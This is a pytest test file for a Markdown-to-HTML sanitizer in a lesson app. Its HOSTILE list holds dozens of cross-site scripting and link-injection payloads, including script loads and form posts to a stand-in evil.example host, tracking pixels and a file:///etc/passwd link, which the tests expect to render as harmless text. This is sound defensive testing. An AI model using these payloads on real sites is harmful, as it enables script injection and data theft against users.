"""A lesson's Markdown becomes HTML in which nothing runs, loads or opens by itself, and a text for mail."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rollbook.learning import markdown

TAGS = set(
    "h1 h2 h3 h4 h5 h6 p br hr em strong code pre blockquote ul ol li a table thead tbody tr th td".split()  # noqa: SIM905
)
ATTRIBUTES = {
    "a": {"href", "rel", "title"},
    "ol": {"start"},
    "code": {"class"},
    "th": {"style"},
    "td": {"style"},
}

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<b onmouseover=alert(1)>x</b>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>",
    "<style>@import 'http://evil.example'</style>",
    "<form action=http://evil.example><input name=x>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<object data=http://evil.example>",
    "<math><mtext><script>alert(1)</script>",
    "<div\n\nonclick=alert(1)>x</div>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:http://evil.example/x)",
    "[x](feed:javascript:alert(1))",
    "[x](//evil.example)",
    "[x](/sign-out)",
    "[x](#top)",
    "[x](?confirm=1)",
    "[x](http:evil.example)",
    "[x](http:/\\evil.example)",
    "[x](https://)",
    "[x](mailto:)",
    "[x](tel:+1)",
    '[x](https://ok.example "\\" onclick=alert(1) x=\\"")',
    "[x](https://ok.example 'title\" onmouseover=\"alert(1)')",
    '[x](https://ok.example/"onclick=alert(1))',
    "[x](https://ok.example/'onclick='alert(1))",
    "[x](https://ok.example/<script>)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: <data:text/html,x>",
    "[r]\n\n[r]: https://ok.example '\"><script>alert(1)</script>'",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    '<https://ok.example/"onclick=alert(1)>',
    "<x@y.example>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x](http://evil.example/pixel.png "t")',
    '!["><script>alert(1)</script>](https://evil.example/p.png)',
    '![x](https://evil.example/p.png"onerror=alert(1))',
    "[![x](https://evil.example/p.png)](https://ok.example)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "![![x](https://evil.example/1.png)](https://evil.example/2.png)",
    "[a [b](https://ok.example) c](javascript:alert(1))",
    '```"><script>alert(1)</script>\ncode\n```',
    '```js" onclick="alert(1)\n</code></pre><script>alert(1)</script>\n```',
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "|<script>|\n|:-:|\n|<img src=x onerror=alert(1)>|",
    '|a|\n|:-" onclick="alert(1)|\n|b|',
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "a\x00b\ufffd",
    "\u202egnp.exe",
    "<" * 200,
    "[" * 200 + "](javascript:alert(1))",
    "99999999999. x",
]


class Reader(HTMLParser):
    """What a browser would see: tags with their attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.other: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def harm(html: str) -> list[str]:
    """Whatever in it is not plainly allowed."""
    reader = Reader()
    reader.feed(html)
    reader.close()
    found = list(reader.other)
    for tag, attributes in reader.seen:
        if tag not in TAGS or not set(attributes) <= ATTRIBUTES.get(tag, set()):
            found.append(f"{tag} {attributes}")
        href = attributes.get("href")
        if tag == "a" and not re.match(r"(https?://|mailto:)[^\s\"'<>]", href or ""):
            found.append(f"href {href}")
        if tag == "a" and attributes.get("rel") != "noopener":
            found.append(f"rel of {href}")
        if "style" in attributes and not re.fullmatch(r"text-align:(left|right|center)", attributes["style"] or ""):
            found.append(f"style {attributes['style']}")
    return found


def test_what_a_browser_must_not_see_is_seen() -> None:
    bad = [
        "<script>x</script>",
        "<a href='https://x'>x</a>",
        "<a rel=noopener href='javascript:x'>x</a>",
        "<a rel=noopener href='/x'>x</a>",
        "<p onclick=x>",
        "<td style='background:url(x)'>",
        "<img src=x>",
        "<!-- x -->",
    ]
    assert [harm(html) for html in bad if not harm(html)] == []


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_texts_are_texts(text: str) -> None:
    for source in (text, f"before {text} after", f"- {text}\n- x", f"> {text}", f"**{text}**"):
        assert harm(markdown.html(source)) == []
        assert "\x00" not in markdown.text(source)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([*HOSTILE, *"[]()<>!*_`\"'|&;:#\\ \n\t", "javascript:", "https://a.b"]), max_size=12))
def test_whatever_is_put_together_is_text(parts: list[str]) -> None:
    assert harm(markdown.html("".join(parts))) == []
    markdown.text("".join(parts))


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_any_text_at_all_is_shown(text: str) -> None:
    assert harm(markdown.html(text)) == []
    markdown.text(text)


def test_what_people_write_is_rendered() -> None:
    html = markdown.html(
        "# Wash\n\nYour *hands* and **arms**, see [the law](https://law.example/?a=1&b=2 'Law') or "
        "<mailto:ada@acme.example>.\n\n1. soap\n2. water\n\n| when | how long |\n|---|--:|\n| always | 20 s |\n"
    )
    assert html == (
        "<h1>Wash</h1>\n"
        "<p>Your <em>hands</em> and <strong>arms</strong>, see "
        '<a href="https://law.example/?a=1&amp;b=2" title="Law" rel="noopener">the law</a> or '
        '<a href="mailto:ada@acme.example" rel="noopener">mailto:ada@acme.example</a>.</p>\n'
        "<ol>\n<li>soap</li>\n<li>water</li>\n</ol>\n"
        '<table>\n<thead>\n<tr>\n<th>when</th>\n<th style="text-align:right">how long</th>\n</tr>\n</thead>\n'
        '<tbody>\n<tr>\n<td>always</td>\n<td style="text-align:right">20 s</td>\n</tr>\n</tbody>\n</table>\n'
    )


def test_a_picture_is_a_link_to_it() -> None:
    assert markdown.html("![A *clean* hand](https://p.example/h.png)") == (
        '<p><a href="https://p.example/h.png" rel="noopener">A clean hand</a></p>\n'
    )
    assert markdown.html("![](https://p.example/h.png)") == (
        '<p><a href="https://p.example/h.png" rel="noopener">picture</a></p>\n'
    )
    assert markdown.html("[![Hand](https://p.example/h.png)](https://ok.example)") == (
        '<p><a href="https://ok.example" rel="noopener">Hand</a></p>\n'
    )


def test_the_text_for_mail_reads_without_marks() -> None:
    text = markdown.text(
        "# Wash\n\nYour *hands*\nand [arms](https://law.example), <https://a.example>.\\\nAlways.\n\n"
        "![Hand](https://p.example/h.png)\n\n"
        "- soap\n- water\n  1. warm\n  2. cold\n\n> Said the cook:\n> wash.\n\n"
        "| when | how |\n|---|---|\n| always | well |\n\n```\nx = 1\n  y\n```\n\n---\n\n`end` &amp; <b>bye</b>\n"
    )
    assert text == (
        "Wash\n\n"
        "Your hands and arms (https://law.example), https://a.example.\nAlways.\n\n"
        "Hand (https://p.example/h.png)\n\n"
        "- soap\n- water\n  1. warm\n  2. cold\n\n"
        "> Said the cook: wash.\n\n"
        "when | how\nalways | well\n\n"
        "  x = 1\n    y\n\n"
        "---\n\n"
        "end & <b>bye</b>"
    )
